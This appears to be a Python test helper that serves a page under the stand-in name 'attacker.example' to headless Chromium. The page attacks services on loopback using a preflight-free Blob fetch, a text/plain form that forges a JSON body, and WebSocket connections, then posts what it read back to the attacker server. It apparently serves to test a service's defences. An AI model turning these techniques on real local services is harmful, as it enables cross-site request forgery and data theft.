"""A page on a foreign address that attacks services on loopback, opened by a real browser.

The page is served under a name that the browser resolves to this machine, so no rule about
private networks stops it before the service does: what is refused is refused by the service.
"""

import json
import os
import shutil
import subprocess
import tempfile
import threading
from collections.abc import Iterator, Mapping, Sequence
from contextlib import contextmanager
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

FOREIGN_HOST = "attacker.example"
BROWSERS = ("chromium", "chromium-browser", "google-chrome")
SECONDS = 60

_PAGE = """<!doctype html><meta charset="utf-8"><title>attack</title>
<iframe name="sink" hidden></iframe>
<script>
const attacks = %s;
const answers = {};
async function read(attack) {
  const init = {method: attack.method || "GET", mode: attack.mode || "cors"};
  if (attack.body !== undefined) {
    const text = JSON.stringify(attack.body);
    // A Blob without a type sends no Content-Type, and so needs no preflight.
    init.body = attack.typed ? text : new Blob([text]);
    if (attack.typed) init.headers = {"Content-Type": "application/json"};
  }
  const answer = await fetch(attack.url, init);
  return {status: answer.status, type: answer.type, text: (await answer.text()).slice(0, 2000)};
}
function post(attack) {
  const form = document.createElement("form");
  form.method = "post"; form.action = attack.url; form.enctype = "text/plain"; form.target = "sink";
  const text = JSON.stringify(attack.body);
  const field = document.createElement("input");
  field.name = text.slice(0, -1) + ', "rest": "'; field.value = '"}';
  form.append(field); document.body.append(form); form.submit();
  return new Promise(done => setTimeout(() => done({status: "sent"}), 1500));
}
function listen(attack) {
  return new Promise((done, fail) => {
    const socket = new WebSocket(attack.url, attack.protocols || []);
    socket.onopen = () => { (attack.send || []).forEach(m => socket.send(JSON.stringify(m))); };
    socket.onmessage = m => done({status: "open", text: String(m.data)});
    socket.onerror = () => fail(new Error("refused"));
    setTimeout(() => done({status: socket.readyState === 1 ? "open" : "closed"}), 3000);
  });
}
(async () => {
  for (const attack of attacks) {
    let url = attack.url;
    for (const [name, answer] of Object.entries(answers)) {
      try { url = url.replace("{" + name + "}", JSON.parse(answer.text).id); } catch {}
      if (attack.body) try {
        attack.body = JSON.parse(JSON.stringify(attack.body).replace("{" + name + "}",
          JSON.parse(answer.text).id));
      } catch {}
    }
    const way = {fetch: read, form: post, socket: listen}[attack.way];
    try { answers[attack.name] = await way({...attack, url}); }
    catch (error) { answers[attack.name] = {status: "refused", text: String(error)}; }
  }
  await fetch("/report", {method: "POST", body: JSON.stringify(answers)});
})();
</script>"""


def browser() -> str | None:
    """Return the path of an installed Chromium, or None."""
    return next((path for name in BROWSERS if (path := shutil.which(name))), None)


@dataclass
class Attacker:
    """What the foreign server serves and what came back to it."""

    page: str
    answers: dict[str, Any] = field(default_factory=dict)
    reported: threading.Event = field(default_factory=threading.Event)
    port: int = 0


def attack(attacks: Sequence[Mapping[str, Any]]) -> dict[str, Any]:
    """Open a page that tries ``attacks`` one after another; return what the page got to see.

    An attack has a ``name``, a ``way`` (``fetch``, ``form``, ``socket``) and a ``url``; the text
    ``{name}`` in a URL or body stands for the ``id`` that the attack of that name got.
    """
    with _serving(Attacker(_PAGE % json.dumps(list(attacks)))) as attacker:
        with _opened(f"http://{FOREIGN_HOST}:{attacker.port}/"):
            if not attacker.reported.wait(SECONDS):
                raise TimeoutError(f"the page reported nothing within {SECONDS} s")
        return attacker.answers


def seen_at(url: str) -> str:
    """Return the text of a page as the browser shows it; foreign names lead to this machine."""
    with tempfile.TemporaryDirectory() as profile:
        done = subprocess.run(
            [*_command(profile), "--dump-dom", url],
            capture_output=True, text=True, timeout=SECONDS, check=False,
        )  # fmt: skip
    return done.stdout


@contextmanager
def _serving(attacker: Attacker) -> Iterator[Attacker]:
    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self._answer(attacker.page.encode())

        def do_POST(self) -> None:
            body = self.rfile.read(int(self.headers.get("Content-Length", 0)))
            attacker.answers = json.loads(body)
            attacker.reported.set()
            self._answer(b"")

        def _answer(self, body: bytes) -> None:
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *_: Any) -> None:
            """Say nothing."""

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    attacker.port = server.server_address[1]
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield attacker
    finally:
        server.shutdown()
        server.server_close()
        thread.join()


@contextmanager
def _opened(url: str) -> Iterator[None]:
    with tempfile.TemporaryDirectory(ignore_cleanup_errors=True) as profile:
        process = subprocess.Popen(
            [*_command(profile), "--remote-debugging-port=0", url],
            stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True,
        )  # fmt: skip
        try:
            yield
        finally:
            os.killpg(process.pid, 15)
            try:
                process.wait(10)
            except subprocess.TimeoutExpired:
                os.killpg(process.pid, 9)
                process.wait()


def _command(profile: str) -> list[str]:
    return [
        str(browser()), "--headless=new", "--no-sandbox", "--disable-gpu", "--no-first-run",
        "--disable-dev-shm-usage", "--disable-background-networking", "--disable-sync",
        f"--user-data-dir={profile}", "--host-resolver-rules=MAP *.example 127.0.0.1",
    ]  # fmt: skip
